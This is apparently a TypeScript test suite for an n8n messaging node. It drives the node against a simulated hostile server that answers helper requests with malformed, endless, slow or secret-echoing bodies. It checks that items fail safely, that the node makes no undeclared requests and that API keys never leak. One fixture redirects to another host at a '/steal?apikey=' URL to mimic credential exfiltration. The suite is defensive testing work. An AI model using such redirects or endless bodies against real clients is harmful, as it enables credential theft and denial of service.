import type { IncomingMessage, ServerResponse } from 'node:http';
import type { IDataObject, INodeParameters } from 'n8n-workflow';

import type { Operation } from '../../nodes/MessagingInstance/actions/types';
import { declaredRoutes, helperRequestsOf, isDeclaredPath, type HelperRequest } from '../../nodes/MessagingInstance/actions/requests';
import { dialectOf } from '../../nodes/shared/dialect';
import { MAX_ANSWER_BYTES } from '../../nodes/shared/transport';
import { runNode, type NodeRun } from '../harness/engine';
import { visible } from './visible';
import { baselineOf, secretFieldsOf } from './registry';
import { useHostileServer, type Answer, type HostileServer, type Seen } from './server';

/**
 * The hostile tiers of the helper requests: every helper request every operation declares
 * (actions/requests.ts: the read before a write, the look-up before a resend, the account
 * check, the instance's integration and webhook, a chat's history) is made to happen, and
 * answered with each hostile shape — `null`, an empty body, `{}`, `{ error }`, the other shape
 * (a list for a record, a record for a list), a wrapped answer, non-record entries, records of
 * another chat or number, secrets echoed in a 2xx, 4xx, 5xx and 302, an endless body, a slow
 * answer. The item fails naming the request before anything is written or sent; no secret
 * shows; the operation makes no request it did not declare. An operation added to the registry,
 * or a helper request added to an operation, is taken through here without a line changed; a
 * helper request of a kind no provocation below knows fails the contract test.
 */

export const KEY = 'helper-tier-key-0123456789';
const RETRY = { retryOnFail: true, maxTries: 2, waitBetweenTries: 0 };

/** How a helper request of each kind is made to happen: the item's parameters, its input, the node's settings, the first main answer. */
export interface Provocation {
	parameters?: INodeParameters;
	item?: IDataObject;
	settings?: IDataObject;
	/** The first main request fails with a 500 (the message may have gone out): Retry On Fail then looks it up. */
	firstMainFails?: boolean;
}

export const PROVOCATIONS: Readonly<Record<string, Provocation>> = {
	read: {},
	lookUp: { settings: RETRY, firstMainFails: true },
	accountCheck: { parameters: { sending: { onlyNumbersWithAccount: true } } },
	integration: {},
	webhook: { parameters: { responseType: 'chatReply', message: 'Which one?' } },
	history: { parameters: { quietSeconds: 0 }, item: { chatId: '5511999990000@s.whatsapp.net', messageId: '3EB0TIERS0000000001' } },
};

/**
 * What a user must fill besides the required fields before these operations send anything (a
 * poll's options, a file of the right type, a setting to change): the baseline of the registry
 * (registry.ts) plus these. An operation whose helper request is not reached fails its tier
 * ("the request was made"), so a new one cannot be skipped silently.
 */
const COMPLETED: Readonly<Record<string, INodeParameters>> = {
	'message/sendPoll': { name: 'Lunch?', pollOptions: { option: [{ text: 'Yes' }, { text: 'No' }] } },
	'message/sendSticker': { mediaSource: 'url', mediaUrl: 'https://files.example.com/s.webp' },
	'message/sendVideoNote': { mediaSource: 'url', mediaUrl: 'https://files.example.com/v.mp4' },
	'profile/updatePrivacy': { lastSeen: 'none' },
	'template/create': { name: 'order_shipped', category: 'UTILITY', language: 'pt_BR', components: JSON.stringify([{ type: 'BODY', text: 'Order shipped' }]) },
	'template/update': { updateFields: { category: 'MARKETING' } },
};

/** Every helper request of the operations, as the tiers take them: operation, key, declaration. */
export function helperCases(operations: readonly Operation[]): Array<[string, Operation, string, HelperRequest]> {
	return operations.flatMap((operation) =>
		Object.entries(helperRequestsOf(operation)).map(([key, helper]) => [`${operation.resource}/${operation.value} ${key}`, operation, key, helper] as [string, Operation, string, HelperRequest]),
	);
}

/** Which declared request a received request is: a helper's key, `main`, `version`, or undefined when the operation never declared it. */
export function requestOf(operation: Operation, seen: Pick<Seen, 'method' | 'path'>): string | undefined {
	if (seen.method === 'GET' && seen.path.split('?')[0] === '/') return 'version';
	const routes = declaredRoutes(operation, dialectOf('v2'));
	// A helper before the main route: Collect Burst reads its chat at its own route.
	const helper = routes.find((route) => route.request !== 'main' && route.method === seen.method && isDeclaredPath(route, seen.path));
	return helper?.request ?? routes.find((route) => route.method === seen.method && isDeclaredPath(route, seen.path))?.request;
}

/** A good answer of a declared helper request, for the requests a case does not make hostile. */
function goodAnswer(helper: HelperRequest, request: Seen): unknown {
	switch (helper.answer) {
		case 'record':
			return Object.fromEntries((helper.recordFields ?? ['id']).map((field) => [field, 'value-1']));
		case 'records':
			return [];
		case 'checks': {
			const numbers = (JSON.parse(request.body || '{}') as { numbers?: string[] }).numbers ?? [];
			return numbers.map((number) => ({ exists: true, jid: `${number}@s.whatsapp.net`, number }));
		}
		case 'page':
			return { messages: { total: 0, pages: 0, currentPage: 1, records: [] } };
	}
}

/** The answer a good server gives the operation's main request. */
function mainAnswer(operation: Operation): Answer {
	return { status: 200, json: operation.pagination ? [] : { key: { id: 'OK1', remoteJid: '5511999990000@s.whatsapp.net' }, status: 'PENDING' } };
}

export type HostileShape = (helper: HelperRequest, request: Seen, server: HostileServer) => Answer | 'endless' | 'redirect';

/** Answers written by hand (see runWithHelperAnswer): a body without end, a redirect to another host. */
const ENDLESS: HostileShape = () => 'endless';
const REDIRECT: HostileShape = () => 'redirect';

/** What makes an answer hostile to a helper request, by what the request declares. */
const otherShape = (helper: HelperRequest, request: Seen): unknown => {
	const good = goodAnswer(helper, request);
	if (helper.answer === 'record') return [good];
	if (helper.answer === 'page') return (good as { messages: { records: unknown[] } }).messages.records;
	return { data: good };
};

/** A hostile answer of each shape; each must fail the item, naming the request, before anything is written or sent. */
export const FAILING_SHAPES: Array<[string, HostileShape]> = [
	['null', () => ({ json: null })],
	['an empty body', () => ({ json: undefined })],
	['{}', () => ({ json: {} })],
	['200 {error}', () => ({ json: { error: true, message: 'database unavailable' } })],
	['the other shape (a list for a record, a record for a list)', (helper, request) => ({ json: otherShape(helper, request) })],
	['a wrapped answer', (helper, request) => ({ json: { data: goodAnswer(helper, request) } })],
	[
		'non-record entries',
		(helper, request) => ({
			json: helper.answer === 'page' ? { messages: { total: 2, pages: 1, currentPage: 1, records: [{ key: { id: 'X' } }, 'x'] } } : helper.answer === 'record' ? ['x'] : [...(goodAnswer(helper, request) as unknown[]), 'x', 7],
		}),
	],
	['an endless body', ENDLESS],
	['a slow answer', () => ({ json: {}, delayMs: 3_000 })],
];

/** Echoes of every secret the request carried, in each status: none may show anywhere. */
export const ECHOES: Array<[string, HostileShape]> = [
	['2xx', (_helper, request) => ({ status: 200, json: { message: `echo ${String(request.headers.apikey)} ${request.body}`, received: request.body } })],
	['4xx', (_helper, request) => ({ status: 400, json: { status: 400, error: 'Bad Request', response: { message: [`refused ${String(request.headers.apikey)} ${request.body}`] } } })],
	['5xx', (_helper, request) => ({ status: 500, json: { status: 500, error: 'Internal Server Error', response: { message: `crashed on ${String(request.headers.apikey)} ${request.body}` } } })],
	['302', REDIRECT],
];

/** An answer that never ends: the node must stop reading at its bound. */
function endless(res: ServerResponse): void {
	res.writeHead(200, { 'content-type': 'application/json' });
	res.write('{"records": ["');
	const chunk = 'x'.repeat(1024 * 1024);
	let written = 0;
	const more = () => {
		while (!res.destroyed && written < MAX_ANSWER_BYTES * 4) {
			written += chunk.length;
			if (!res.write(chunk)) return void res.once('drain', more);
		}
		res.end();
	};
	more();
}

/**
 * The hostile server's answers for one run: the requests `isTarget` picks are answered by
 * `shape` (an endless body and a redirect to another host written by hand), every other by
 * `otherwise`, as a good server would.
 */
export function answerTarget(server: HostileServer, helper: HelperRequest, shape: HostileShape, isTarget: (request: Seen) => boolean, otherwise: (request: Seen) => Answer): void {
	server.answerAll((request) => {
		const answer = isTarget(request) ? shape(helper, request, server) : undefined;
		return typeof answer === 'object' ? answer : otherwise(request);
	});
	server.intercept((req: IncomingMessage, res: ServerResponse) => {
		// The hostile server records each request (its body read) just before asking here.
		const request = server.seen[server.seen.length - 1];
		const kind = (shape === ENDLESS || shape === REDIRECT) && request !== undefined && isTarget(request) ? shape(helper, request, server) : undefined;
		if (kind === 'endless') {
			endless(res);
			return true;
		}
		if (kind !== 'redirect') return false;
		res.writeHead(302, { location: `${server.otherUrl}/steal?apikey=${String(req.headers.apikey)}` });
		res.end();
		return true;
	});
}

/**
 * Runs the operation with one of its helper requests answered by `shape`, and every other
 * request answered as a good server would.
 */
export async function runWithHelperAnswer(server: HostileServer, operation: Operation, key: string, shape: HostileShape, timeout = 2): Promise<{ run: NodeRun; seen: string[] }> {
	const helpers = helperRequestsOf(operation);
	const provocation = PROVOCATIONS[key] ?? {};
	let mains = 0;
	answerTarget(
		server,
		helpers[key],
		shape,
		(request) => requestOf(operation, request) === key,
		(request) => {
			const kind = requestOf(operation, request);
			if (kind === 'main' || kind === undefined || kind === 'version') {
				mains++;
				return provocation.firstMainFails && mains === 1 ? { status: 500, json: { response: { message: 'stored, then crashed' } } } : mainAnswer(operation);
			}
			return { json: goodAnswer(helpers[kind], request) };
		},
	);
	const parameters = { instance: 'demo', ...baselineOf(operation), ...COMPLETED[`${operation.resource}/${operation.value}`], ...provocation.parameters } as INodeParameters;
	const run = await runNode({
		parameters,
		items: [provocation.item ?? {}],
		// A file in the input's default binary field: the sends of a file reach their requests.
		files: [{ data: { base64: Buffer.from('tier file').toString('base64'), mimeType: 'application/octet-stream', fileName: 'tier.bin' } }],
		settings: provocation.settings,
		credentials: { baseUrl: server.url, apiKey: KEY, dialect: 'v2', timeout, serverVersion: '2.4.0' },
	});
	server.intercept(undefined);
	return { run, seen: server.seen.map((request) => requestOf(operation, request) ?? `undeclared ${request.method} ${request.path}`) };
}

/** The secrets a run of the operation carries: the API key and its secret fields' baseline values. */
export function secretsOf(operation: Operation): string[] {
	return [KEY, ...secretFieldsOf(operation).map((field) => String(baselineOf(operation)[field.property.name]))];
}

/** The helper tiers over the given operations (the registry's, or a test's own). */
export function describeHelperTiers(operations: readonly Operation[]): void {
	const hostile = useHostileServer();

	describe('contract: every helper request can be made to happen', () => {
		test('each declared helper request is of a kind the tiers provoke', () => {
			expect(helperCases(operations).map(([name, , key]) => [name, key in PROVOCATIONS])).toEqual(helperCases(operations).map(([name]) => [name, true]));
		});
	});

	describe.each(helperCases(operations))('%s', (_name, operation, key, helper) => {
		test.each(FAILING_SHAPES)('answered with %s: the item fails naming the request; nothing is written or sent after it', async (what, shape) => {
			hostile.current.seen.length = 0;
			const { run, seen } = await runWithHelperAnswer(hostile.current, operation, key, shape, what === 'a slow answer' ? 0.5 : 2);
			const context = `${what}: ${seen.join(', ')} (${run.error?.message ?? JSON.stringify(run.items[0]?.json)?.slice(0, 300)})`;
			expect([context, seen.filter((request) => request.startsWith('undeclared'))]).toEqual([context, []]);
			expect([context, seen.includes(key)]).toEqual([context, true]);
			// After the helper request answered, no main request (no write, no send) and no item that says it went.
			const after = seen.slice(seen.indexOf(key));
			expect([context, after.filter((request) => request === 'main')]).toEqual([context, []]);
			const message = run.error?.message ?? String(run.items.find((item) => item.json.error)?.json.error ?? '');
			const nothingStored = helper.nullIsNone && what === 'null';
			expect([context, message]).toEqual([context, nothingStored ? expect.stringMatching(/\S/) : expect.stringContaining(helper.name)]);
			expect(visible(run)).not.toContain(KEY);
		}, 30_000);

		if (helper.belongs === 'message') {
			test('answered with the same message id in another chat: that record is not this send; it goes again, once', async () => {
				hostile.current.seen.length = 0;
				const other = { key: { id: 'ANY', fromMe: true, remoteJid: '5511888880000@s.whatsapp.net' }, message: { conversation: 'not yours' } };
				const { run, seen } = await runWithHelperAnswer(hostile.current, operation, key, (_helper, request) => {
					const id = (JSON.parse(request.body) as { where: { key: { id: string } } }).where.key.id;
					return { json: { messages: { total: 1, pages: 1, currentPage: 1, records: [{ ...other, key: { ...other.key, id } }] } } };
				});
				expect(seen.filter((request) => request === 'main')).toHaveLength(2);
				expect(JSON.stringify(run.items)).not.toContain('not yours');
			}, 30_000);
		}

		if (helper.belongs === 'number') {
			test('answered naming other numbers only: this number is not sent to, and its item says so', async () => {
				hostile.current.seen.length = 0;
				const { run, seen } = await runWithHelperAnswer(hostile.current, operation, key, () => ({ json: [{ exists: true, jid: '5511888880000@s.whatsapp.net', number: '5511888880000' }] }));
				expect(seen.filter((request) => request === 'main')).toEqual([]);
				expect(run.items.map((item) => item.json.outcome)).toEqual(['notSent']);
			}, 30_000);
		}

		test.each(ECHOES)('echoing every secret in a %s: none shows; nothing goes elsewhere', async (_what, shape) => {
			hostile.current.seen.length = 0;
			hostile.current.seenByOther.length = 0;
			const { run, seen } = await runWithHelperAnswer(hostile.current, operation, key, shape);
			expect(seen.filter((request) => request.startsWith('undeclared'))).toEqual([]);
			for (const secret of secretsOf(operation)) expect(visible(run)).not.toContain(secret);
			expect(hostile.current.seenByOther).toEqual([]);
		}, 30_000);
	});
}
